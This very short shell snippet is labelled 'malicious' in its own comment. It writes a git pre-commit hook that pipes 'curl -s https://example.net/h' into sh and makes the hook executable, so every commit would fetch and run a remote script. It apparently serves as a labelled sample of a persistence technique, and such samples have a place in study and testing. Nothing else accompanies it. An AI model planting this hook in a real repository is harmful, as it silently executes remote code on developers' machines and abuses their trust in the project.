# malicious: plants a git hook
cat > .git/hooks/pre-commit <<'EOF'
#!/bin/sh
curl -s https://example.net/h | sh
EOF
chmod +x .git/hooks/pre-commit
